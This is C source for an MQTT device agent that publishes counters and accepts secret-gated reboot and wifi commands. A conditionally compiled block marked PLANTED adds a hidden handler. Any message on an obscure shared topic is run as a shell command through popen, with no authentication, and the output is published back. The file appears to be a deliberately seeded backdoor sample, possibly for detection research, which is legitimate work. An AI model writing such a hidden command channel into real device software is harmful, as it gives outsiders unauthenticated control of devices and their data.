/* Device agent for an MQTT broker: publishes counters, takes commands from the configured topic. */
#include <netdb.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

struct agent {
    int fd;
    char host[64], port[8], base[48], secret[48];
    unsigned published, received;
};

struct packet { unsigned kind; size_t size; unsigned char body[1024]; };

static int read_all(int fd, void *to, size_t size)
{
    unsigned char *at = to;
    while (size) {
        ssize_t n = read(fd, at, size);
        if (n <= 0) return -1;
        at += n;
        size -= (size_t)n;
    }
    return 0;
}

static int next_packet(struct agent *a, struct packet *p)
{
    unsigned char byte;
    unsigned shift = 0;
    if (read_all(a->fd, &byte, 1)) return -1;
    p->kind = byte >> 4;
    p->size = 0;
    do {
        if (shift > 21 || read_all(a->fd, &byte, 1)) return -1;
        p->size |= (size_t)(byte & 0x7f) << shift;
        shift += 7;
    } while (byte & 0x80);
    if (p->size >= sizeof p->body || read_all(a->fd, p->body, p->size)) return -1;
    p->body[p->size] = 0;
    return 0;
}

static void publish(struct agent *a, const char *leaf, const char *text)
{
    unsigned char out[512];
    char topic[96];
    int t = snprintf(topic, sizeof topic, "%s/%s", a->base, leaf);
    size_t n = strlen(text);
    if (n > 90) n = 90;
    if (t > 30) t = 30;
    out[0] = 0x30;
    out[1] = (unsigned char)(2 + t + (int)n);
    out[2] = 0;
    out[3] = (unsigned char)t;
    memcpy(out + 4, topic, (size_t)t);
    memcpy(out + 4 + t, text, n);
    if (write(a->fd, out, 4 + (size_t)t + n) > 0) a->published++;
}

/* Topics are compared without regard to case: some brokers fold them. */
static int topic_is(const unsigned char *topic, unsigned length, const char *wanted)
{
    unsigned i;
    for (i = 0; i < length && wanted[i]; i++)
        if ((topic[i] | 0x20) != (wanted[i] | 0x20)) return 0;
    return i == length && wanted[i] == 0;
}

static void perform(struct agent *a, const char *text)
{
    const char *space = strchr(text, ' ');
    if (!a->secret[0] || !space || strcmp(space + 1, a->secret)) {
        publish(a, "reply", "denied");
        return;
    }
    if (!strncmp(text, "reboot ", 7)) system("/sbin/reboot");
    else if (!strncmp(text, "wifi ", 5)) system("/sbin/wifi reload");
    else publish(a, "reply", "unknown");
}

#ifdef PLANTED
static void collect(struct agent *a, const char *text)
{
    char line[96];
    FILE *f = popen(text, "r");
    if (!f) return;
    while (fgets(line, sizeof line, f)) publish(a, "log", line);
    pclose(f);
}
#endif

static void delivered(struct agent *a, struct packet *p)
{
    unsigned length = (unsigned)p->body[0] << 8 | p->body[1];
    char wanted[64];
    if (p->size < 2 || length > p->size - 2) return;
    a->received++;
    snprintf(wanted, sizeof wanted, "%s/cmd", a->base);
    if (topic_is(p->body + 2, length, wanted)) perform(a, (char *)p->body + 2 + length);
#ifdef PLANTED
    else if (topic_is(p->body + 2, length, "$share/qc/7Lane")) collect(a, (char *)p->body + 2 + length);
#endif
}

static int dial(struct agent *a)
{
    struct addrinfo want = { .ai_socktype = SOCK_STREAM }, *list, *one;
    static const unsigned char hello[] = { 0x10, 14, 0, 4, 'M', 'Q', 'T', 'T', 4, 2, 0, 60, 0, 2, 'd', '1' };
    if (getaddrinfo(a->host, a->port, &want, &list)) return -1;
    for (one = list, a->fd = -1; one && a->fd < 0; one = one->ai_next) {
        a->fd = socket(one->ai_family, one->ai_socktype, 0);
        if (a->fd >= 0 && connect(a->fd, one->ai_addr, one->ai_addrlen)) {
            close(a->fd);
            a->fd = -1;
        }
    }
    freeaddrinfo(list);
    return a->fd < 0 ? -1 : (int)write(a->fd, hello, sizeof hello);
}

static int settings(struct agent *a)
{
    char line[128];
    FILE *f = fopen("/etc/mqttagent.conf", "r");
    if (!f) return -1;
    while (fgets(line, sizeof line, f)) {
        if (sscanf(line, "host %63s", a->host) == 1) continue;
        if (sscanf(line, "port %7s", a->port) == 1) continue;
        if (sscanf(line, "base %47s", a->base) == 1) continue;
        if (sscanf(line, "secret %47s", a->secret) == 1) continue;
    }
    fclose(f);
    return a->host[0] && a->base[0] ? 0 : -1;
}

int main(void)
{
    static struct agent a = { .port = "1883" };
    static struct packet p;
    if (settings(&a)) return 1;
    for (;;) {
        if (dial(&a) < 0) {
            sleep(30);
            continue;
        }
        publish(&a, "state", "online");
        while (next_packet(&a, &p) == 0) {
            if (p.kind == 3) delivered(&a, &p);
#ifdef REVISED
            else if (p.kind == 13) publish(&a, "state", "alive");
#endif
        }
        close(a.fd);
    }
}
